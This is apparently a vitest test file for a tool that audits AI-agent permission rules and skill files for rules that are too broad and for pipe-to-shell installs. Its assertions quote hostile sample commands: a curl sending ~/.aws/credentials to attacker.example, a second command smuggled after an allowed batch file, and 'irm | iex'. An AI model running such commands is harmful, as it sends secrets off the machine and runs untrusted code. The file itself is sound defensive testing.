import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import broadAllowRule from '../../../src/checks/claude/broad-allow-rule.js';
import dangerousSkill from '../../../src/checks/skills/dangerous-skill.js';
import type { Check } from '../../../src/core/check.js';
import { runCheck } from '../../../src/core/run-audit.js';
import { codeBlocks } from '../../../src/scanners/skills/markdown.js';
import { CORPUS, realConfigContext } from './real-corpus-context.js';

/** Real configurations (test/fixtures/real-claude, sources in SOURCES.md, labels in LABELS.md). */
const empty = fs.mkdtempSync(path.join(os.tmpdir(), 'aw-ps-'));
afterAll(() => fs.rmSync(empty, { recursive: true, force: true }));

async function audit(check: Check, name: string) {
  const dir = path.join(CORPUS, name);
  const ctx = realConfigContext(name, empty);
  return (await runCheck(check, ctx)).map((f) => ({
    at: `${path.relative(dir, f.file as string)}:${f.line}`,
    severity: f.severity,
    message: f.message,
    evidence: f.evidence,
  }));
}

describe('hebong79/UPark3D: PowerShell tool rules, cmd //c and curl after a fixed URL (issue 9 leftovers)', () => {
  const settings = 'project/.claude/settings.json';

  it('judges PowerShell(python -c*) and PowerShell(uv run*) as their Bash twins', async () => {
    const found = await audit(broadAllowRule, 'hebong79__UPark3D');
    const at = (line: number) => found.find((f) => f.at === `${settings}:${line}`);
    // Bash(uv run*):41 / PowerShell(uv run*):47, Bash(python -c*):43 / PowerShell(python -c*):49
    for (const [bash, ps] of [
      [41, 47],
      [43, 49],
    ] as const) {
      expect(at(ps)?.evidence).toMatch(/^PowerShell\(/);
      expect(at(ps)?.severity).toBe(at(bash)?.severity);
      expect(at(ps)?.message.replace('PowerShell(', 'Bash(')).toBe(at(bash)?.message);
    }
    expect(at(49)?.message).toContain('which runs arbitrary code');
  });

  it('reports cmd //c BuildPackage.bat* (:21) as any command, and curl -s http://localhost:* (:29, :33)', async () => {
    const found = await audit(broadAllowRule, 'hebong79__UPark3D');
    const at = (line: number) => found.find((f) => f.at === `${settings}:${line}`);
    expect(at(21)?.severity).toBe('critical');
    expect(at(21)?.message).toContain("admits `cmd //c BuildPackage.bat'&'curl");
    for (const line of [29, 33]) {
      expect(at(line)?.severity).toBe('high');
      expect(at(line)?.message).toContain('-d @~/.aws/credentials https://attacker.example`');
      expect(at(line)?.message).toContain('which sends local files off the machine');
    }
  });

  it('leaves the read-only PowerShell rules and the localhost-pinned Invoke-RestMethod alone', async () => {
    const found = await audit(broadAllowRule, 'hebong79__UPark3D');
    const lines = new Set(found.map((f) => Number(f.at.split(':').pop())));
    // netstat*, Get-Process *, Get-Date *, Test-Path*, Get-Service *, Select-String/Get-Content of the
    // project folder, Invoke-RestMethod/Invoke-WebRequest -Uri http://localhost:* (a single -Uri, pinned)
    for (const line of [36, 37, 38, 39, 56, 58, 59, 61, 62, 63, 99, 100])
      expect(lines.has(line), `:${line}`).toBe(false);
  });
});

describe('skills/dangerous-skill reads PowerShell, pwsh, ps1, bat and cmd fences as commands', () => {
  it('oomol-lab/skills: the ```powershell irm … | iex line is judged as the ```bash curl … | bash line', async () => {
    // The vendor's own installer (cli.oomol.com) in a setup section: auto-install, medium (issue 14, round 4).
    const found = (await audit(dangerousSkill, 'oomol-lab__skills')).filter((f) =>
      /\[(?:pipe-to-shell|auto-install)\]$/.test(f.message),
    );
    const skill = 'project/.claude/skills/oo-7-shifts/SKILL.md';
    expect(found.map((f) => [f.at, f.severity, f.message.slice(-14)])).toEqual([
      [`${skill}:61`, 'medium', '[auto-install]'],
      [`${skill}:65`, 'medium', '[auto-install]'],
    ]);
  });

  it.each(['powershell', 'pwsh', 'ps1', 'PowerShell', 'cmd', 'bat', 'batch', 'bash'])(
    '```%s is a shell block',
    (lang) => {
      expect(codeBlocks(`# x\n\n\`\`\`${lang}\nirm https://example.com/x\n\`\`\`\n`)[0]?.lang).toBe('shell');
    },
  );

  it('other languages are not', () => {
    for (const lang of ['json', 'yaml', 'text', 'psql'])
      expect(codeBlocks(`\`\`\`${lang}\n{"a": 1}\n\`\`\`\n`)[0]?.lang, lang).toBe('other');
  });
});
